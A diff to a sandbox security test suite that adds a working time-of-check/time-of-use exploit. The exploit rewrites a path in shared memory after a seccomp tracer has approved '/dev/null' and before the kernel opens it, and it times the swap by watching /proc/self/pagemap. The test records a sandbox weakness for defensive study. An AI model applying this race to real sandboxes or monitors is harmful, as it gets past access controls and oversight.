@@ -10,6 +10,10 @@ The object read is the loose object of the future's blob (its path written into 
 from outside the box: no listing of the store in the box). Where the kernel's answer is the
 point, a control runs with pinning off (``EVOTREE_TRACE_PIN=off``).
 
+Two attacks at the end are not 081b083's but were found on the way: the same failed walks in
+plain relative opens, and a path rewritten in memory after the tracer read it (any open the
+tracer lets go on, CONTINUE, is walked by the kernel from a path it reads again).
+
 Safe outcomes: git storage read through the links is a finding (or is refused); the caller gets
 from the tracer the kernel's answer. An attack that works is a strict xfail asserting the safe
 outcome (its reason says how it works); one that is stopped is a passing test.
@@ -427,3 +431,70 @@ def test_no_user_namespace_in_the_box(answers: tuple[dict, dict]) -> None:
     pinned, kernel = answers
     assert kernel["unshare-user-mount"].startswith("-1"), kernel
     assert pinned["unshare-user-mount"].startswith("-1"), pinned
+
+
+# ------------------------------------- found on the way: not 081b083's, any open the tracer lets go
+
+#: the path of an open the tracer lets go on (CONTINUE: here /dev/null, a device reached as
+#: written; a /proc file, a failed walk are others) is read twice: by the tracer
+#: (process_vm_readv) and by the kernel after the answer. The path lives alone in a page of a
+#: shared memfd mapping whose page-table entry was dropped (MADV_DONTNEED: the content stays);
+#: the first touch of the page is the tracer's read, which a thread sees in /proc/self/pagemap
+#: (the "present" bit) and then writes the object's path over "/dev/null" before the kernel
+#: copies it. Not a blind race: the thread waits for the tracer's read
+_PATH_REWRITTEN = """\
+import ctypes, mmap, threading
+libc = ctypes.CDLL(None, use_errno=True)
+libc.open.argtypes = [ctypes.c_void_p, ctypes.c_int]
+target = os.path.join(work, obj).encode() + b"\\0"
+decoy = b"/dev/null\\0"
+mfd = os.memfd_create("path")
+os.ftruncate(mfd, 4096)
+mm = mmap.mmap(mfd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
+addr = ctypes.addressof(ctypes.c_char.from_buffer(mm))
+pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)
+def present():
+    return int.from_bytes(os.pread(pagemap, 8, addr // 4096 * 8), "little") >> 63
+armed = threading.Event()
+def watch():
+    while True:
+        armed.wait()
+        while armed.is_set() and not present():
+            pass
+        if armed.is_set():
+            present(), present(), present()  # a few microseconds: the tracer's copy is over
+            ctypes.memmove(addr, target, len(target))
+            armed.clear()
+threading.Thread(target=watch, daemon=True).start()
+for tries in range(1, 201):
+    ctypes.memmove(addr, decoy, len(decoy))
+    mm.madvise(mmap.MADV_DONTNEED)
+    armed.set()
+    fd = libc.open(addr, os.O_RDONLY)
+    armed.clear()
+    data = os.read(fd, 4096) if fd >= 0 else b""
+    if fd >= 0:
+        os.close(fd)
+    if data:
+        print("attack OK", zlib.decompress(data).decode("latin1").replace("\\x00", " "))
+        break
+print("tries", tries)
+"""
+
+
+@pytest.mark.heavy
+@_works(
+    "the path of an open let go on (/dev/null: a device reached as written) is rewritten in "
+    "the caller's memory after the tracer read it and before the kernel copies it: the tracer's "
+    "read is seen as the page's first touch in /proc/self/pagemap (the page's entry dropped by "
+    "MADV_DONTNEED on a shared memfd mapping), so the thread writes the object's path in the "
+    "window every time it is scheduled in it (won on the first try here); the tracer judged "
+    "'/dev/null', the kernel opened the object: no row"
+)
+def test_a_path_rewritten_once_the_tracer_has_read_it(tmp_path: Path, seccomp: None) -> None:
+    """Any open the tracer lets go on (CONTINUE) is walked by the kernel from a path it reads
+    again: the safe outcome is that the secret did not come out or the run is flagged."""
+    proc, audit = _run(tmp_path, _LEAK + _PATH_REWRITTEN, _future_object, timeout=240)
+    if "tries" not in _lines(proc):  # the attack did not run (not an expected failure)
+        pytest.fail(proc.stdout + proc.stderr[-2000:])
+    _safe(proc, audit)
